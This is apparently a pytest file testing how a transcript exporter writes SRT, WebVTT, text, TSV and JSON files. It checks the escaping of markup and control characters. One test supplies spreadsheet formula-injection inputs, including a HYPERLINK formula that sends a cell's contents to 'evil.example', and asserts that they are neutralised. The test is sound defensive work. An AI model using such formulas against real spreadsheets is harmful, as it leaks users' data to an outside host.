"""Each form is what its readers expect, whatever was said."""

from __future__ import annotations

import json

import pytest

from thalweg.deploy.transcripts.forms import FORMS
from thalweg.deploy.transcripts.utterance import Said, Utterance

HELLO = Utterance(1.5, 2.25, "Hello, you.", (Said("Hello,", 1.5, 1.9, 0.5), Said("you.", 2.0, 2.25, 0.75)))
LATER = Utterance(3_661.0, 3_662.0, "a <b> --> c\n\nd & e\x1b[31m\ttab")


def written(form: str, *utterances: Utterance, by_word: bool = False) -> str:
    return "".join(FORMS[form](utterances, {"file": "a \ud800.wav"}, by_word))


def test_subrip() -> None:
    assert written(".srt", HELLO, LATER) == (
        "1\n00:00:01,500 --> 00:00:02,250\nHello, you.\n\n"
        "2\n01:01:01,000 --> 01:01:02,000\na <b> → c d & e\\x1b[31m tab\n\n"
    )


def test_web_video_text_tracks() -> None:
    assert written(".vtt", HELLO, LATER) == (
        "WEBVTT\n\n00:00:01.500 --> 00:00:02.250\nHello, you.\n\n"
        "01:01:01.000 --> 01:01:02.000\na &lt;b&gt; → c d &amp; e\\x1b[31m tab\n\n"
    )


def test_text_is_a_line_per_utterance() -> None:
    assert written(".txt", HELLO, LATER) == "Hello, you.\na <b> --> c  d & e\\x1b[31m tab\n"


def test_a_table_has_three_columns_whatever_was_said() -> None:
    assert written(".tsv", HELLO, LATER) == (
        "start\tend\ttext\n1500\t2250\tHello, you.\n3661000\t3662000\ta <b> --> c  d & e\\x1b[31m tab\n"
    )


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example?"&A1)',
        "+1",
        "-2+3",
        "@SUM(A1)",
        " =1",
        "\t=1",
        '"begins a cell that never ends',
    ],
)
def test_no_program_for_tables_computes_what_was_said(text: str) -> None:
    (cell,) = written(".tsv", Utterance(0, 1, text)).splitlines()[1].split("\t")[2:]
    assert cell == f"'{text.strip()}"


def test_json_holds_the_utterances_and_the_words() -> None:
    found = json.loads(written(".json", HELLO, LATER))
    assert found["file"] == "a \ud800.wav"
    assert [(u["start_s"], u["end_s"]) for u in found["utterances"]] == [(1.5, 2.25), (3661.0, 3662.0)]
    assert found["utterances"][0]["words"][1] == {"text": "you.", "start_s": 2.0, "end_s": 2.25, "confidence": 0.75}
    assert found["utterances"][1]["text"] == LATER.text


@pytest.mark.parametrize("form", FORMS)
def test_silence_is_a_file_that_reads(form: str) -> None:
    assert (
        written(form)
        == {
            ".srt": "",
            ".vtt": "WEBVTT\n\n",
            ".txt": "",
            ".json": '{\n "file": "a \\ud800.wav",\n "utterances": []\n}\n',
            ".tsv": "start\tend\ttext\n",
        }[form]
    )


def test_by_word_there_is_a_cue_for_each_and_without_times_of_words_for_the_whole() -> None:
    assert written(".tsv", HELLO, LATER, by_word=True).splitlines()[1:] == [
        "1500\t1900\tHello,",
        "2000\t2250\tyou.",
        "3661000\t3662000\ta <b> --> c  d & e\\x1b[31m tab",
    ]


def test_a_word_of_its_own_has_no_spaces_around_it() -> None:
    assert written(".srt", HELLO, by_word=True).splitlines()[2::4] == ["Hello,", "you."]


def test_a_cue_ends_where_the_next_begins() -> None:
    shown = written(".srt", Utterance(0.0, 5.0, "one"), Utterance(4.0, 6.0, "two"))
    assert "00:00:00,000 --> 00:00:04,000\none" in shown
